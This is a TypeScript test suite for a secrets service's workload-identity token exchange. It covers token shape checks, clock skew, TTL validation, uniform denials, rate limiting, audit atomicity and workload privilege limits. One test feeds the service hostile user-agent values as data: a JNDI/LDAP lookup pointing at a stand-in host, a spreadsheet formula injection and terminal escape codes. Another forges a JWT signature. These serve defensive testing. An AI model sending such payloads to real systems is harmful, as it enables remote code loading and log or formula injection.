import { createServiceAccount, createServiceAccountToken, disableServiceAccount, type ServiceAccount } from '@bonafide/core'
import type { AwsPrincipal } from '@bonafide/stand-ins'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { purge } from '../src/server/purge.ts'
import { awsRoute, azureRoute, expectRefusal, failedStep } from './refusals.ts'
import { azureWorkload, readableEnvironment } from './workloads.ts'
import { createWorld, post, type World } from './world.ts'

/** Group D of the catalogue: tokens, their limits, what is told and what is kept. */

let world: World
let account: ServiceAccount
let role: AwsPrincipal
let environment: string

beforeAll(async () => {
  world = await createWorld()
  account = await world.account()
  await world.awsIdentity(account.id)
  role = world.role()
  environment = await readableEnvironment(world, account.id, 1)
})
afterAll(() => world.close())

let requests = 0
let elsewhere: Record<string, string> = {}
beforeEach(() => {
  world.sts.behave()
  later()
})
/** A second and an address that nobody else has. */
function later() {
  world.clock.offsetMs = ++requests * 1000
  elsewhere = { 'x-test-address': `198.51.${Math.floor(requests / 250)}.${requests % 250}` }
}

const login = (accountId = account.id) => {
  later()
  return post(`${world.node.url}${awsRoute}`, world.awsBody(role, accountId), elsewhere)
}
const read = (bearerToken: string) =>
  fetch(`${world.node.url}/service/secrets/`, { headers: { authorization: `Bearer ${bearerToken}`, environment } })
const graphql = (query: string, variables: object = {}) =>
  post(`${world.node.url}/api/graphql`, { query, variables }, { authorization: `Bearer Session ${world.owner.sessionToken}` })

describe('a token', () => {
  it('TOK-01 of any other shape is refused without asking the database', async () => {
    const value = 'a'.repeat(64)
    world.node.statements.length = 0
    for (const authorization of [
      `ServiceAccount ${value.slice(1)}`,
      `ServiceAccount ${value}0`,
      `ServiceAccount ${value.toUpperCase()}`,
      `Account ${value}`,
      `pss_service:v1:${value}:${value}:${value}:${value}`,
      `pss_service:v2:${value}:${value}:${value}`,
      `pss_service:v2:${value}:${value}:${value}:${value.slice(1)}g`,
    ]) {
      expect((await read(authorization)).status, authorization).toBe(401)
    }
    expect(world.node.statements).toEqual([])
  })

  it.each([-300_000, 300_000])('TOK-06 ends by the clock of the database, with ours %d ms off', async (offset) => {
    const { bearerToken, serviceAccountToken } = await createServiceAccountToken(
      { serviceAccountId: account.id, name: 'short', expiresInSeconds: 60 },
      world.owner.context,
    )
    world.clock.offsetMs += offset
    expect((await read(bearerToken)).status).toBe(200)
    const expire = (interval: string) =>
      world.database.pool.query(`update service_account_tokens set expires_at = now() + $2::interval where id = $1`, [
        serviceAccountToken.id,
        interval,
      ])
    for (const interval of ['0 ms', '-1 ms']) {
      await expire(interval)
      expect((await read(bearerToken)).status).toBe(401)
    }
  })

  it('OPS-13 TOK-33 that lives is not cleared away by a node whose clock is years ahead, nor is what was recorded', async () => {
    const { json } = await login()
    const ages = ['service_account_tokens', 'sessions', 'exchanges', 'audit_events', 'used_proofs']
    const before = await Promise.all(ages.map((table) => world.count(table)))
    for (const years of [10, -10]) {
      world.clock.offsetMs = years * 365 * 86_400_000
      await purge(world.services)
    }
    expect(await Promise.all(ages.map((table) => world.count(table)))).toEqual(before)
    expect((await read(json.authentication.bearerToken)).status).toBe(200)
  })

  it('TOK-30 is handed out and used without a trace in caches, addresses or cookies', async () => {
    const made = await login()
    const used = await read(made.json.authentication.bearerToken)
    for (const { headers } of [made, used]) {
      expect(headers.get('cache-control')).toBe('no-store')
      for (const name of ['etag', 'last-modified', 'location', 'content-location', 'set-cookie', 'refresh'])
        expect(headers.get(name)).toBeNull()
      expect(headers.get('referrer-policy')).toBe('no-referrer')
    }
  })
})

describe('the lifetime that is asked for', () => {
  const spellings = [
    '0',
    '-1',
    '1.5',
    '"3600"',
    '"0x10"',
    '"1e3"',
    'true',
    '[60]',
    'null',
    '1e309',
    '2147483648',
    '9007199254740993',
    '"９0"',
    '{}',
    '59',
  ]
  it.each(spellings)('TOK-11 TOK-12 %s is refused before anything is dialled', async (ttl) => {
    const tokens = await world.count('service_account_tokens')
    const sent = world.outbound.length
    const body = JSON.stringify({ ...world.awsBody(role, account.id), tokenRequest: {} }).replace(
      '"tokenRequest":{}',
      `"tokenRequest":{"ttl":${ttl}}`,
    )
    const response = await fetch(`${world.node.url}${awsRoute}`, { method: 'POST', body, headers: elsewhere })
    expect([response.status, ((await response.json()) as { code: string }).code]).toEqual([400, 'ttl_invalid'])
    expect(world.outbound.length).toBe(sent)
    expect(await world.count('service_account_tokens')).toBe(tokens)
  })
})

describe('a denial', () => {
  it('TOK-19 looks the same to the byte at the Azure door, whatever the reason', async () => {
    const azure = await azureWorkload(world, account.id)
    const valid = (await azure.body()).azureEntra
    const bare = await world.account()
    const foreign = await world.account()
    await world.awsIdentity(foreign.id)
    const disabled = await world.account()
    await azureWorkload(world, disabled.id)
    await disableServiceAccount({ id: disabled.id }, world.owner.context)
    const [header, payload] = Buffer.from(valid.jwt, 'base64').toString().split('.')
    const forged = { jwt: Buffer.from(`${header}.${payload}.${'A'.repeat(342)}`).toString('base64') }
    const cases = [
      ['0190a5b0-7b1c-7000-8000-000000000001', valid, null],
      [bare.id, valid, 'no_identity_bound'],
      [foreign.id, valid, 'no_identity_bound'],
      [disabled.id, valid, 'account_disabled'],
      [account.id, forged, 'signature_invalid'],
    ] as const
    const answers = new Set<string>()
    for (const [id, azureEntra, code] of cases) {
      later()
      const body = { account: { type: 'service', id }, azureEntra }
      const answer = await expectRefusal(world, body, { status: 401, code: 'login_denied', outbound: 1 }, azureRoute, elsewhere)
      if (code) expect((await failedStep(world, answer.json.requestId))?.[1]).toBe(code)
      const headers = [...answer.headers].filter(([name]) => !['date', 'x-request-id'].includes(name))
      answers.add(JSON.stringify([answer.text.replace(answer.json.requestId, ''), headers]))
    }
    expect(answers.size).toBe(1)
  })

  it('TOK-20 tells nothing of what was expected', async () => {
    const strict = await world.account()
    await world.awsIdentity(strict.id, {
      principals: ['arn:aws:iam::111122223333:role/CANARY-one', 'arn:aws:iam::111122223333:role/CANARY-two'],
      stsEndpoint: 'https://sts.eu-central-1.amazonaws.com',
      requireServerBinding: true,
    })
    const expected = ['CANARY', 'eu-central-1', 'bonafide.example', 'binding', 'principals']
    for (const [make, status] of [
      [() => world.awsBody(role, strict.id), 401],
      [() => world.awsBody(role, strict.id, { region: 'us-west-2' }), 401],
      [() => ({ ...world.awsBody(role, strict.id), awsIam: {} }), 400],
    ] as const) {
      later()
      const code = status === 401 ? 'login_denied' : 'malformed_request'
      const { text } = await expectRefusal(world, make(), { status, code, outbound: 1 }, awsRoute, elsewhere)
      for (const secret of expected) expect(text).not.toContain(secret)
    }
  })
})

describe('a flood', () => {
  const flood = async (count: number, headers: (index: number) => Record<string, string>, body = '{}') => {
    const statuses = new Map<number, number>()
    const lane = async (first: number) => {
      for (let index = first; index < count; index += 20) {
        const response = await fetch(`${world.node.url}${awsRoute}`, { method: 'POST', body, headers: headers(index) })
        await response.arrayBuffer()
        if (response.status === 429) expect(Number(response.headers.get('retry-after'))).toBeGreaterThan(0)
        statuses.set(response.status, (statuses.get(response.status) ?? 0) + 1)
      }
    }
    await Promise.all(Array.from({ length: 20 }, (_, lane_) => lane(lane_)))
    return statuses
  }

  it('TOK-21 from one address ends in 429, and the account that it named logs in from elsewhere', async () => {
    const body = JSON.stringify({ account: { id: account.id }, awsIam: {} })
    const statuses = await flood(1000, () => ({ 'x-test-address': '203.0.113.9' }), body)
    expect(statuses.get(429)).toBeGreaterThan(100)
    expect((statuses.get(400) ?? 0) + (statuses.get(429) ?? 0)).toBe(1000)
    expect((await login()).status).toBe(200)
  })

  it.each([
    ['700 addresses of one /64', (index: number) => `2001:db8:7:7::${index.toString(16)}`],
    ['one IPv4 address in both families', (index: number) => (index % 2 ? '203.0.113.77' : '::ffff:203.0.113.77')],
  ])('TOK-22 from %s shares one bucket', async (_, address) => {
    const statuses = await flood(700, (index) => ({ 'x-test-address': address(index) }))
    expect(statuses.get(429)).toBeGreaterThan(50)
  })

  it('TOK-23 is counted before anything is read: neither size, shape nor the database matter', async () => {
    // Nothing is left, and nothing comes back while the test runs.
    const node = await world.start({ limits: { take: async () => 7 } })
    for (const body of ['{', 'x'.repeat(1_000_000), `[${'['.repeat(50_000)}`]) {
      const response = await fetch(`${node.url}${awsRoute}`, { method: 'POST', body })
      expect([response.status, response.headers.get('retry-after')]).toEqual([429, '7'])
    }
    expect(node.statements).toEqual([])
  })
})

describe('what is recorded', () => {
  it('TOK-27 an exchange whose row cannot be written mints nothing, and says nothing of why', async () => {
    const [tokens, proofs] = [await world.count('service_account_tokens'), await world.count('used_proofs')]
    const { pool } = world.database
    await pool.query(`alter table exchanges add constraint canary_sink check (outcome <> 'accepted') not valid`)
    const answer = await login()
    await pool.query('alter table exchanges drop constraint canary_sink')
    expect(answer.status).toBe(500)
    expect(answer.json.code).toBe('internal_error')
    expect(answer.text).not.toMatch(/canary_sink|exchanges|constraint|pss_service/)
    expect(await world.count('service_account_tokens')).toBe(tokens)
    expect(await world.count('used_proofs')).toBe(proofs)
  })

  it('TOK-27 nor is a token made by hand when its audit row cannot be written', async () => {
    const tokens = await world.count('service_account_tokens')
    const { pool } = world.database
    await pool.query(`alter table audit_events add constraint canary_sink check (action <> 'service_account_token.create') not valid`)
    const mutation = 'mutation($input: CreateServiceAccountTokenInput!) { createServiceAccountToken(input: $input) { token } }'
    const { json, text } = await graphql(mutation, { input: { serviceAccountId: account.id, name: 'unseen', expiresInSeconds: 3600 } })
    await pool.query('alter table audit_events drop constraint canary_sink')
    expect(json.errors[0].extensions.code).toBe('internal_error')
    expect(text).not.toMatch(/canary_sink|audit_events|pss_service/)
    expect(await world.count('service_account_tokens')).toBe(tokens)
  })

  it.each(['\u009b31mred', '"}{"', '=cmd()', '${jndi:ldap://evil.test}'])('TOK-28 the user agent %j is one plain record', async (agent) => {
    later()
    const answer = await post(`${world.node.url}${awsRoute}`, world.awsBody(role, account.id), { ...elsewhere, 'user-agent': agent })
    expect(answer.status, answer.text).toBe(200)
    const { rows } = await world.database.pool.query('select user_agent from exchanges order by id desc limit 1')
    expect(rows[0].user_agent).toMatch(/^[\x20-\x7e]*$/)
    expect(world.logged.every((line) => !line.includes('\n'))).toBe(true)
  })

  it.each(['a\nb', 'a\u001b[31m', 'a\u2028b', 'a\u0000b'])('TOK-28 an account cannot be called %j', async (name) => {
    const before = await world.count('service_accounts')
    await expect(createServiceAccount({ name, roleId: await world.roleId('Service') }, world.owner.context)).rejects.toMatchObject({
      code: 'malformed_request',
    })
    expect(await world.count('service_accounts')).toBe(before)
  })
})

describe('what a workload may not do for itself', () => {
  it('TOK-31 bind, change or make identities, or open other environments', async () => {
    const { json } = await login()
    const authorization = `Bearer ${json.authentication.bearerToken}`
    const identity = await world.awsIdentity((await world.account()).id)
    const [before, grants] = [await world.count('identity_bindings'), await world.count('environment_keys')]
    for (const query of [
      `mutation { bindExtIdentity(input: {identityId: "${identity.id}", serviceAccountId: "${account.id}"}) { __typename } }`,
      `mutation { updateExtIdentity(input: {id: "${identity.id}", name: "mine"}) { __typename } }`,
      `mutation { deleteExtIdentity(input: {id: "${identity.id}"}) { __typename } }`,
      `mutation { grantServiceAccountAccess(input: {serviceAccountId: "${account.id}", environmentIds: ["${environment}"]}) { __typename } }`,
    ]) {
      const answer = await post(`${world.node.url}/api/graphql`, { query }, { authorization })
      expect(['forbidden', 'not_found'], answer.text).toContain(answer.json.errors?.[0].extensions.code)
    }
    expect([await world.count('identity_bindings'), await world.count('environment_keys')]).toEqual([before, grants])
  })
})
